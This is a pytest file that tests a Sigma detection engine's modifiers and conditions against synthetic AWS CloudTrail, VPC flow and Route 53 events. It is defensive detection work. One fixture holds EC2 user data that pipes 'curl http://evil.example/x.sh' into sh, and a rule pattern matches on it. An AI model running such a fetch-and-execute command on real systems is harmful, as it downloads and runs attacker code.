"""Sigma modifiers and conditions, rule by rule, over small synthetic CloudTrail events."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest

from cairn.detect.sigma import load_rules
from detect.sigmadata import ACCOUNT, ct, match_one, matches_by_rule, rule_yaml, write_records

USER_DATA = "#!/bin/bash\ncurl http://evil.example/x.sh | sh\n"
TRAIL = f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/main"

EVENTS = [
    ct("stop", eventSource="cloudtrail.amazonaws.com", eventName="StopLogging", readOnly=False,
       requestParameters={"name": TRAIL}, resources=[{"ARN": TRAIL, "accountId": ACCOUNT}]),
    ct("stop_upper", eventSource="cloudtrail.amazonaws.com", eventName="STOPLOGGING", readOnly=False,
       sourceIPAddress="203.0.113.9"),
    ct("v6", sourceIPAddress="2001:db8:1::17"),
    ct("svc", sourceIPAddress="ec2.amazonaws.com",
       userIdentity={"type": "AWSService", "invokedBy": "ec2.amazonaws.com"}),
    ct("b64", eventSource="ec2.amazonaws.com", eventName="RunInstances", readOnly=False,
       requestParameters={"userData": base64.b64encode(USER_DATA.encode()).decode()}),
    # the same encoding in lower case: base64 values are matched with their case
    ct("b64_lower", eventSource="ec2.amazonaws.com", eventName="RunInstances", readOnly=False,
       requestParameters={"userData": base64.b64encode(USER_DATA.encode()).decode().lower()}),
    ct("sg", eventSource="ec2.amazonaws.com", eventName="AuthorizeSecurityGroupIngress", readOnly=False,
       requestParameters={"groupId": "sg-1", "ipPermissions": {"items": [
           {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
            "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}},
           {"ipProtocol": "tcp", "fromPort": 443, "toPort": 443,
            "ipRanges": {"items": [{"cidrIp": "10.1.0.0/16"}]}}]}}),
    ct("err", eventSource="s3.amazonaws.com", eventName="GetBucketPolicy", errorCode="AccessDenied",
       errorMessage=f"User: arn:aws:iam::{ACCOUNT}:user/alice is not authorized"),
    ct("root", userIdentity={"type": "Root", "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT}),
    ct("mfa", eventSource="signin.amazonaws.com", eventName="ConsoleLogin", eventType="AwsConsoleSignIn",
       additionalEventData={"MFAUsed": "No", "LoginTo": "https://console.aws.amazon.com"},
       responseElements={"ConsoleLogin": "Success"}),
    ct("self", eventName="CreateAccessKey", readOnly=False, requestParameters={"userName": "alice"}),
    ct("late", when="2024-07-29T23:10:00Z"),
]
ALL = {e["eventID"] for e in EVENTS}
DEFAULT_UA = ALL  # every event keeps the default aws-cli user agent
DEFAULT_IP = ALL - {"stop_upper", "v6", "svc"}
WRITES = {"stop", "stop_upper", "b64", "b64_lower", "sg", "self"}

CASES: list[tuple[str, dict[str, Any], set[str]]] = [
    ("equals is case-insensitive", {"sel": {"eventName": "stoplogging"}, "condition": "sel"},
     {"stop", "stop_upper"}),
    ("list of values is OR", {"sel": {"eventName": ["StopLogging", "RunInstances"]}, "condition": "sel"},
     {"stop", "stop_upper", "b64", "b64_lower"}),
    ("cased keeps the case", {"sel": {"eventName|cased": "StopLogging"}, "condition": "sel"}, {"stop"}),
    ("contains", {"sel": {"userAgent|contains": "PYTHON/3.11"}, "condition": "sel"}, DEFAULT_UA),
    ("startswith", {"sel": {"eventName|startswith": "stop"}, "condition": "sel"}, {"stop", "stop_upper"}),
    ("endswith", {"sel": {"eventSource|endswith": "TRAIL.amazonaws.com"}, "condition": "sel"},
     {"stop", "stop_upper"}),
    ("wildcards ? and * inside", {"sel": {"eventName": "St?pLog*"}, "condition": "sel"},
     {"stop", "stop_upper"}),
    ("re is case-sensitive", {"sel": {"eventName|re": "^Stop[A-Z]"}, "condition": "sel"}, {"stop"}),
    ("re with the i flag", {"sel": {"eventName|re|i": "^stoplogging$"}, "condition": "sel"},
     {"stop", "stop_upper"}),
    ("cidr IPv4", {"sel": {"sourceIPAddress|cidr": "198.51.100.0/24"}, "condition": "sel"}, DEFAULT_IP),
    ("cidr IPv6", {"sel": {"sourceIPAddress|cidr": "2001:db8::/32"}, "condition": "sel"}, {"v6"}),
    ("cidr list mixes families", {"sel": {"sourceIPAddress|cidr": ["203.0.113.0/24", "2001:db8:1::/48"]},
                                  "condition": "sel"}, {"stop_upper", "v6"}),
    ("cidr on a cairn column name", {"sel": {"src_ip|cidr": "203.0.113.9/32"}, "condition": "sel"},
     {"stop_upper"}),
    ("cidr on a JSON array field (text prefixes)",
     {"sel": {"requestParameters.ipPermissions.items.ipRanges.items.cidrIp|cidr": "10.0.0.0/8"},
      "condition": "sel"}, {"sg"}),
    ("explicit [] path", {"sel": {"requestParameters.ipPermissions.items[].ipRanges.items[].cidrIp": "0.0.0.0/0"},
                          "condition": "sel"}, {"sg"}),
    ("all: every value", {"sel": {"userAgent|contains|all": ["aws-cli", "python/3.11"]}, "condition": "sel"},
     DEFAULT_UA),
    ("all: one value missing", {"sel": {"userAgent|contains|all": ["aws-cli", "boto3"]}, "condition": "sel"},
     set()),
    ("base64 (whole value)", {"sel": {"requestParameters.userData|base64": USER_DATA}, "condition": "sel"},
     {"b64"}),
    ("base64offset contains", {"sel": {"requestParameters.userData|base64offset|contains": "curl http://evil"},
                               "condition": "sel"}, {"b64"}),
    ("base64offset of utf16 (wide)", {"sel": {"requestParameters.userData|wide|base64offset|contains": "curl"},
                                      "condition": "sel"}, set()),
    ("windash: - also matches /", {"sel": {"userAgent|windash|contains": "-2.15"}, "condition": "sel"}, DEFAULT_UA),
    ("exists true", {"sel": {"errorCode|exists": True}, "condition": "sel"}, {"err"}),
    ("exists false", {"sel": {"errorCode|exists": False}, "condition": "sel"}, ALL - {"err"}),
    ("exists on a JSON path", {"sel": {"additionalEventData.MFAUsed|exists": True}, "condition": "sel"}, {"mfa"}),
    ("null", {"sel": {"errorCode": None}, "condition": "sel"}, ALL - {"err"}),
    ("keyword searches the whole record", {"keywords": ["IS NOT AUTHORIZED"], "condition": "keywords"}, {"err"}),
    ("keyword with wildcard", {"keywords": ["alice*NOT authorized"], "condition": "keywords"}, {"err"}),
    ("1 of", {"sel_a": {"eventName": "StopLogging"}, "sel_b": {"errorCode": "AccessDenied"},
              "condition": "1 of sel_*"}, {"stop", "stop_upper", "err"}),
    ("all of", {"sel_a": {"eventSource": "cloudtrail.amazonaws.com"},
                "sel_b": {"sourceIPAddress|cidr": "203.0.113.0/24"}, "condition": "all of sel_*"}, {"stop_upper"}),
    ("1 of them", {"a": {"eventName": "ConsoleLogin"}, "b": {"eventName": "CreateAccessKey"},
                   "condition": "1 of them"}, {"mfa", "self"}),
    ("not: a missing field does not match, its negation does",
     {"sel": {"eventSource": "cloudtrail.amazonaws.com"}, "filter": {"errorCode": "AccessDenied"},
      "condition": "sel and not filter"}, {"stop", "stop_upper"}),
    ("not over a list of maps", {"sel": {"userAgent|contains": "aws-cli"},
                                 "filter": [{"eventName": "ListUsers"}, {"readOnly": False}],
                                 "condition": "sel and not filter"}, {"err", "mfa"}),
    ("parentheses and or", {"a": {"eventName": "ConsoleLogin"}, "b": {"eventName": "StopLogging"},
                            "c": {"sourceIPAddress|cidr": "198.51.100.0/24"}, "condition": "(a or b) and c"},
     {"mfa", "stop"}),
    ("number in a JSON array", {"sel": {"requestParameters.ipPermissions.items.fromPort": 22},
                                "condition": "sel"}, {"sg"}),
    ("gt / lt on numbers", {"sel": {"requestParameters.ipPermissions.items.fromPort|gt": 400},
                            "filter": {"requestParameters.ipPermissions.items.toPort|lt": 20},
                            "condition": "sel and not filter"}, {"sg"}),
    ("neq", {"sel": {"eventName|neq": "ListUsers"}, "condition": "sel"},
     {"stop", "stop_upper", "b64", "b64_lower", "sg", "err", "mfa", "self"}),
    ("boolean column", {"sel": {"readOnly": False}, "condition": "sel"}, WRITES),
    ("array column (resources[].ARN)", {"sel": {"resources.ARN|endswith": "trail/main"}, "condition": "sel"},
     {"stop"}),
    ("fieldref", {"sel": {"userIdentity.userName|fieldref": "requestParameters.userName"}, "condition": "sel"},
     {"self"}),
    ("hour of a timestamp", {"sel": {"eventTime|hour": 23}, "condition": "sel"}, {"late"}),
    ("raw record key without a column", {"sel": {"recipientAccountId": ACCOUNT, "eventID": "svc"},
                                         "condition": "sel"}, {"svc"}),
]


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory: pytest.TempPathFactory) -> Any:
    from conftest import Lake

    root = tmp_path_factory.mktemp("sigma-modifiers")
    lake = Lake(root / "ws")
    lake.ingest(write_records(root / "events.json", EVENTS))
    yield lake
    lake.close()


@pytest.mark.parametrize(("name", "detection", "expected"), CASES, ids=[c[0] for c in CASES])
def test_modifier(name: str, detection: dict[str, Any], expected: set[str], synthetic: Any) -> None:
    assert match_one(synthetic.engine, detection) == expected


def test_all_cases_run_as_one_rule_set_in_one_scan(synthetic: Any) -> None:
    texts = {f"{i}.yml": rule_yaml(d, title=name) for i, (name, d, _) in enumerate(CASES)}
    rules = load_rules(texts=texts)
    assert not rules.failed()
    got = matches_by_rule(synthetic.engine, rules)
    for entry, (name, _, expected) in zip(rules.entries, CASES, strict=True):
        assert got.get(entry.id, set()) == expected, name


def test_placeholders_fill_expand(synthetic: Any) -> None:
    text = rule_yaml({"sel": {"sourceIPAddress|expand": "%office_ips%"}, "condition": "sel"})
    unresolved = load_rules(texts={"p.yml": text})
    assert "placeholder" in (unresolved.entries[0].reason or "")
    rules = load_rules(texts={"p.yml": text}, placeholders={"office_ips": ["203.0.113.9", "2001:db8:1::17"]})
    assert matches_by_rule(synthetic.engine, rules)[rules.entries[0].id] == {"stop_upper", "v6"}


def test_since_and_until_bound_event_time(synthetic: Any) -> None:
    rules = load_rules(texts={"a.yml": rule_yaml({"sel": {"eventName": "ListUsers"}, "condition": "sel"})})
    rid = rules.entries[0].id
    assert matches_by_rule(synthetic.engine, rules)[rid] == {"v6", "svc", "root", "late"}
    assert matches_by_rule(synthetic.engine, rules, since="2024-07-29T20:00:00Z")[rid] == {"late"}
    assert matches_by_rule(synthetic.engine, rules, until="2024-07-29T20:00:00Z")[rid] == {"v6", "svc", "root"}


def test_match_rows_carry_rule_and_entity_columns(synthetic: Any) -> None:
    from cairn.detect.sigma import MATCH_SCHEMA, run_rules

    rules = load_rules(texts={"a.yml": rule_yaml({"sel": {"eventName": "StopLogging"}, "condition": "sel"},
                                                 title="stop", tags=["attack.t1562.008"])})
    table = run_rules(synthetic.engine, rules)
    assert table.schema == MATCH_SCHEMA
    row = table.to_pylist()[0]
    assert row["rule_title"] == "stop" and row["rule_author"] == "cairn tests"
    assert row["rule_tags"] == ["attack.t1562.008"] and row["rule_level"] == "medium"
    assert row["principal_arn"] == f"arn:aws:iam::{ACCOUNT}:user/alice"
    assert row["src_ip"] == "198.51.100.7" and row["account_id"] == ACCOUNT and row["aws_region"] == "us-east-1"
    assert '"event_name":"StopLogging"' in row["entities"].replace(" ", "")
    assert row["event_count"] == 1 and row["event_uids"] == [row["event_uid"]]


def test_rules_of_other_sources_run_on_their_tables(lake: Any, tmp_path: Path) -> None:
    """vpcflow and route53 log sources map onto their tables (field names as AWS writes them)."""
    flow = tmp_path / "flow.log"
    flow.write_text(
        "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n"
        f"2 {ACCOUNT} eni-1 198.51.100.7 10.0.0.5 51234 22 6 10 840 1722254400 1722254460 ACCEPT OK\n"
        f"2 {ACCOUNT} eni-1 10.0.0.5 198.51.100.7 22 51234 6 10 840 1722254400 1722254460 ACCEPT OK\n",
        encoding="utf-8")
    lake.ingest(flow)
    rules = load_rules(texts={
        "ssh.yml": rule_yaml({"sel": {"dstport": 22, "srcaddr|cidr": "198.51.100.0/24", "action": "accept"},
                              "condition": "sel"}, logsource={"product": "aws", "service": "vpcflow"}),
    })
    assert rules.entries[0].table == "vpcflow", rules.entries[0].reason
    from cairn.detect.sigma import run_rules

    rows = run_rules(lake.engine, rules).to_pylist()
    assert len(rows) == 1 and rows[0]["src_ip"] == "198.51.100.7" and rows[0]["table_name"] == "vpcflow"
